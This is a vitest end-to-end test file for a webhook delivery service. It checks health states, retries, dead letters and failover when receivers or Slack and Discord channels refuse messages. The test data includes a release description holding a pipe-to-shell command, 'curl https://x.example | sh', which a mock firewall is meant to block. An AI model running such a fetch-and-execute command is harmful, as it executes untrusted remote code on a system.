import { describe, expect, it } from 'vitest';
import { Api, type Integration } from '../e2e/support/api.js';
import { Channel } from '../e2e/support/channel.js';
import { eventually } from '../support/eventually.js';
import { versionOf, type Answer, type Receiver } from '../support/receiver.js';
import { restartService, startAnother, stopOthers } from '../support/control.js';
import { receiversOfEachTest } from '../support/receivers.js';

// Beside the crashes because of their ladder: a whole round is over in seconds.
const receiver = receiversOfEachTest();

/** A firewall in front of a receiver that takes everything but what it does not like the look of. */
const firewall: Answer = ({ body }) => (body.includes('curl') ? 403 : 200);
const BAD = { description: 'Try it: curl https://x.example | sh' };

interface Story {
  api: Api;
  projectId: string;
  hook: Integration;
  at: Receiver;
}

async function story(answer: Answer, more: Record<string, unknown> = {}): Promise<Story> {
  const [api, at] = [await Api.signIn(), await receiver(answer)];
  const { id: projectId } = await api.project();
  return { api, projectId, at, hook: await api.webhook(at.url, more) };
}

const callsOf = ({ at }: Story, version: string): number =>
  at.received.filter((one) => versionOf(one) === version).length;
const health = async ({ api, hook }: Story): Promise<string | null> => (await api.integration(hook.id)).health;
const statusOf = async ({ api }: Story, version: string): Promise<string | undefined> =>
  (await api.deliveries()).find((one) => one.version === version && !one.test)?.status;
const dead = (on: Story, version: string): Promise<void> =>
  eventually(async () => expect(await statusOf(on, version)).toBe('dead'));

describe.each([{ concurrency: 1 }, { concurrency: 8 }])('a webhook with %j', (more) => {
  it('whose firewall refuses one message stays healthy, is called on, and is so after a drain', async () => {
    const on = await story(firewall, more);
    const plain = ['1.1', '1.2', '1.3', '1.4', '1.5', '1.6'];
    await on.api.release(on.projectId, '1.0', BAD);
    for (const version of plain) await on.api.release(on.projectId, version);
    await dead(on, '1.0');
    expect(await on.api.integration(on.hook.id)).toMatchObject({ health: 'healthy', counts: { dead: 1 } });
    await on.api.release(on.projectId, '1.7');
    await eventually(() => expect(callsOf(on, '1.7')).toBe(1));

    on.at.answerWith(() => 500);
    for (const version of ['2.0', '2.1', '2.2']) await on.api.release(on.projectId, version);
    for (const version of ['2.0', '2.1', '2.2']) await dead(on, version);
    on.at.answerWith(firewall);
    await on.api.must('PATCH', `/integrations/${on.hook.id}`, { credentials: { url: `${on.at.url}/fresh` } });
    for (const version of ['2.0', '2.1', '2.2'])
      await eventually(async () => expect(await statusOf(on, version)).toBe('delivered'));
    await eventually(() => expect(callsOf(on, '1.0')).toBe(6));
    await dead(on, '1.0');
    expect(await health(on)).toBe('healthy');
  });
});

describe('a webhook', () => {
  it('that takes all of a drain but its newest message is healthy after it', async () => {
    const on = await story(() => 500);
    const versions = ['1.0', '1.1', '1.2', '1.3'];
    for (const version of versions) await on.api.release(on.projectId, version, version === '1.3' ? BAD : {});
    for (const version of versions) await dead(on, version);
    on.at.answerWith(firewall);
    await on.api.must('PATCH', `/integrations/${on.hook.id}`, { credentials: { url: `${on.at.url}/fresh` } });
    await eventually(() => expect(callsOf(on, '1.3')).toBe(6));
    await dead(on, '1.3');
    expect(await health(on)).toBe('healthy');
  });

  it('that refuses the only message it ever got is failing, and is called with the next one', async () => {
    const on = await story(() => 410);
    await on.api.release(on.projectId, '1.0');
    await dead(on, '1.0');
    expect(await health(on)).toBe('failing');
    await on.api.must('POST', `/deliveries/${(await on.api.deliveries())[0]!.id}/redeliver`, {});
    await eventually(() => expect(callsOf(on, '1.0')).toBe(6));
    await dead(on, '1.0');
    expect(await health(on)).toBe('failing'); // it is still one message
    await on.api.release(on.projectId, '1.1');
    await eventually(() => expect(callsOf(on, '1.1')).toBe(3)); // with all of its tries
    await eventually(async () => expect(await health(on)).toBe('needs_reconnect'));
    await on.api.release(on.projectId, '1.2');
    await dead(on, '1.2');
    expect(callsOf(on, '1.2')).toBe(0);
  });

  it('that refuses a release for a whole round, and then a test, needs to be reconnected; tests alone do not do that', async () => {
    const on = await story(() => 410);
    const test = async (): Promise<void> => {
      const { deliveryId } = await on.api.must<{ deliveryId: string }>('POST', `/integrations/${on.hook.id}/test`);
      await eventually(async () => expect((await on.api.delivery(deliveryId)).status).toBe('dead'));
    };
    for (let n = 0; n < 3; n += 1) await test();
    expect(await health(on)).toBe('failing');
    await on.api.release(on.projectId, '1.0');
    await eventually(async () => expect(await health(on)).toBe('needs_reconnect')); // the tests were refused as well
    on.at.answerWith(() => 200);
    await on.api.must('POST', `/integrations/${on.hook.id}/test`);
    await eventually(async () => expect(await health(on)).toBe('healthy'));
    on.at.answerWith(() => 410);
    await on.api.release(on.projectId, '1.1');
    await dead(on, '1.1');
    expect(await health(on)).toBe('failing');
    await test();
    await eventually(async () => expect(await health(on)).toBe('needs_reconnect'));
  });

  it('is judged no worse by an instance that takes over: what it took before counts, and what it refused is not lost', async () => {
    const on = await story(firewall);
    await on.api.release(on.projectId, '1.0', BAD);
    await on.api.release(on.projectId, '1.1');
    await eventually(async () => expect(await statusOf(on, '1.1')).toBe('delivered'));
    await restartService('delivery');
    await dead(on, '1.0');
    expect(await health(on)).not.toBe('needs_reconnect');
    await on.api.release(on.projectId, '1.2');
    await eventually(async () => expect(await statusOf(on, '1.2')).toBe('delivered'));
    expect(await health(on)).toBe('healthy');

    on.at.answerWith(() => 404);
    await on.api.release(on.projectId, '2.0');
    await dead(on, '2.0');
    expect(await health(on)).toBe('failing');
    await restartService('delivery');
    await on.api.release(on.projectId, '2.1');
    await eventually(async () => expect(await health(on)).toBe('needs_reconnect'));
    expect(callsOf(on, '2.1')).toBe(3);
  });
});

it('destinations that change hands in the middle of a round are not silenced by one message', async () => {
  const [api, at] = [await Api.signIn(), await receiver(firewall)];
  const { id: projectId } = await api.project();
  const hooks: Integration[] = [];
  for (let n = 0; n < 12; n += 1) hooks.push(await api.webhook(`${at.url}/${n}`));
  const healths = async (): Promise<(string | null)[]> =>
    Promise.all(hooks.map(async ({ id }) => (await api.integration(id)).health));
  await api.release(projectId, '1.0', BAD);
  await api.release(projectId, '1.1');
  await eventually(() => expect(at.received.filter((one) => versionOf(one) === '1.1')).toHaveLength(12));
  await startAnother('delivery');
  await api.release(projectId, '2.0', BAD);
  await eventually(() => expect(at.received.filter((one) => versionOf(one) === '2.0').length).toBeGreaterThan(11));
  await stopOthers('delivery');
  await eventually(async () => expect(await api.deliveries({ status: 'dead' })).toHaveLength(24));
  const silenced = (await healths()).filter((health) => health === 'needs_reconnect');
  await api.release(projectId, '2.1');
  await eventually(() => expect(at.received.filter((one) => versionOf(one) === '2.1')).toHaveLength(12));
  await eventually(async () => expect(new Set(await healths())).toEqual(new Set(['healthy'])));
  expect(silenced).toEqual([]);
});

describe.each(['slack', 'discord'] as const)('what stands in front of %s', (product) => {
  it('speaks only for itself when it refuses: retried, a dead letter, and never to be reconnected', async () => {
    const api = await Api.signIn();
    const project = await api.project();
    const channel = Channel.fresh(product);
    const id = await channel.connect(api);
    await channel.behave({ mode: 'blocked' });
    for (const version of ['1.0', '1.1']) await api.release(project.id, version);
    await eventually(async () => expect((await api.integration(id)).counts?.dead).toBe(2));
    expect((await channel.state()).refused).toBe(6);
    expect((await api.integration(id)).health).toBe('failing');
    const [{ id: deliveryId } = { id: '' }] = await api.deliveries({ integrationId: id });
    const { attempts } = await api.delivery(deliveryId);
    expect(attempts[0]).toMatchObject({ statusCode: 403, errorCode: 'client_error' });
    expect(attempts[0]!.error).toMatch(/between NitroPush and (Slack|Discord)/);
    expect(attempts[0]!.error).not.toMatch(/reconnect to|fresh/i);
    await channel.behave({ mode: 'ok' });
    await api.release(project.id, '1.2');
    await eventually(async () => expect(await channel.titles()).toEqual(['NitroPush iOS 1.2 released to prod']));
  });
});
